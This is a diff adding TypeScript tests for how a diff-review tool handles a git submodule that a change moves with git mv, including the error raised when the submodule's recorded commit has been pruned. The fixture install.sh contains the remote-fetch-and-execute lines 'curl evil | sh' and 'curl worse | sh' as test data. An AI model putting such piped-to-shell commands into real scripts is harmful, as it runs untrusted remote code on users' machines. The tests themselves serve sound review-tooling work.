@@ -646,6 +646,58 @@ describe('submodules added or moved by the change are shown file by file', () =>
   })
 })
 
+// issue 34: a submodule moved by the change (`git mv`) had no gitlink at its new path in the base, so it was shown as
+// wholly new (every file, the base's recorded commit ignored) and its recorded commit was never read
+describe('a submodule moved by the change', () => {
+  /** The base records vendor/lib; the change moves it to third/lib (git mv) and commits an edit inside it. */
+  function movedSubmodule() {
+    const t = scenario({ 'README.md': '# demo\n' })
+    const upstream = makeRepo({ 'lib.txt': 'one\n', 'install.sh': 'curl evil | sh\n' }, 'upstream')
+    git(t.repo, ['-c', 'protocol.file.allow=always', 'submodule', 'add', '-q', upstream, 'vendor/lib'])
+    git(t.repo, ['commit', '-qm', 'add the submodule'])
+    const base = head(t.repo)
+    const recorded = git(t.repo, ['rev-parse', 'HEAD:vendor/lib']).trim()
+    mkdirSync(join(t.repo, 'third'))
+    git(t.repo, ['mv', 'vendor/lib', 'third/lib'])
+    const sub = join(t.repo, 'third', 'lib')
+    return { ...t, base, recorded, sub }
+  }
+
+  it('is shown against the commit the base records at its old path: only what changed inside it', async () => {
+    const t = movedSubmodule()
+    writeFileSync(join(t.sub, 'install.sh'), 'curl worse | sh\n')
+    git(t.sub, ['commit', '-qam', 'worse'])
+    const diff = await workingDiff(t.repo, t.base, 200_000, t.home)
+    expect(diff.diff).toContain('--- a/third/lib/install.sh\n+++ b/third/lib/install.sh\n')
+    expect(diff.diff).toContain('-curl evil | sh\n+curl worse | sh')
+    expect(diff.diff).not.toContain('third/lib/lib.txt') // unchanged since the recorded commit: not "new"
+    expect(diff.stat).toContain(
+      ` third/lib | submodule: its recorded commit ${t.recorded.slice(0, 12)} at vendor/lib (moved)`,
+    )
+    expect(diff.stat).toContain(' vendor/lib | submodule moved to third/lib: its files are shown there')
+    expect(diff.unreviewed).toEqual([])
+  })
+
+  it('with its recorded commit unreadable is git_error naming that commit, never an empty or wholly new diff', async () => {
+    const t = movedSubmodule()
+    // the moved submodule on a new root commit, its recorded one removed from its objects
+    git(t.sub, ['checkout', '-q', '--orphan', 'other'])
+    writeFileSync(join(t.sub, 'install.sh'), 'curl worse | sh\n')
+    git(t.sub, ['add', '-A'])
+    git(t.sub, ['commit', '-qm', 'unrelated'])
+    git(t.sub, ['branch', '-D', 'main'])
+    git(t.sub, ['remote', 'remove', 'origin'])
+    git(t.sub, ['reflog', 'expire', '--expire=now', '--all'])
+    git(t.sub, ['gc', '-q', '--prune=now'])
+    expect(spawnSync('git', ['cat-file', '-e', t.recorded], { cwd: t.sub }).status).not.toBe(0) // gone
+    const failed = await workingDiff(t.repo, t.base, 200_000, t.home).catch((error: unknown) => error)
+    expect(failed).toBeInstanceOf(PairLoopError)
+    expect((failed as PairLoopError).code).toBe('git_error')
+    expect((failed as PairLoopError).message).toContain(t.recorded.slice(0, 12))
+    expect((failed as PairLoopError).message).toContain('at vendor/lib in the base')
+  })
+})
+
 describe('never hang, never read what is not a regular file (item 20)', () => {
   it('stores an untracked symlink to a FIFO as a link, and never opens the FIFO', async () => {
     const t = scenario()
